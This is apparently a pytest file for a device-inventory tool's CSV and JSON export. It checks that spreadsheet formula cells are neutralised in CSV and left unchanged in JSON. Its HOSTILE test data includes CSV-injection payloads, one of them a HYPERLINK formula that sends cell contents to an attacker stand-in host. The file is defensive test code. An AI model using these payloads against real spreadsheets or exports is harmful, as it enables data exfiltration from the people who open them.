"""Exports: CSV cells a spreadsheet would run as formulas are neutralised; JSON keeps every value as it is."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from stationd.export import device_rows, to_csv, to_json
from stationd.store import open_store

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1)': "name",
    "+SUM(1,2)": "model",
    "-2+3": "serial",
    "@cmd": "ios_version",
    "\t=1+1": "build",
}


@pytest.mark.anyio
async def test_formula_cells_are_neutralised_in_csv_and_kept_in_json(tmp_path: Path) -> None:
    async with open_store(tmp_path / "stationd.db") as store:
        await store.upsert_device(
            "UDID-1",
            serial="-2+3",
            ecid=12,
            name='=HYPERLINK("http://evil.example/?"&A1)',
            facts={"product_type": "+SUM(1,2)", "product_version": "@cmd", "build_version": "\t=1+1"},
        )
        await store.upsert_device(
            "UDID-2", serial="F9FXK2LQ", name="Lincoln-F9FXK2LQ", facts={"product_type": "iPad13,18"}
        )
        rows = await device_rows(store)
    exported = {row["udid"]: row for row in csv.DictReader(io.StringIO(to_csv(rows)))}
    hostile, plain = exported["UDID-1"], exported["UDID-2"]
    for value, field in HOSTILE.items():
        assert hostile[field] == "'" + value
    assert hostile["ecid"] == "12" and plain["serial"] == "F9FXK2LQ" and plain["name"] == "Lincoln-F9FXK2LQ"
    assert plain["model"] == "iPad13,18"
    as_json = {row["udid"]: row for row in json.loads(to_json(rows))}
    for value, field in HOSTILE.items():
        assert as_json["UDID-1"][field] == value
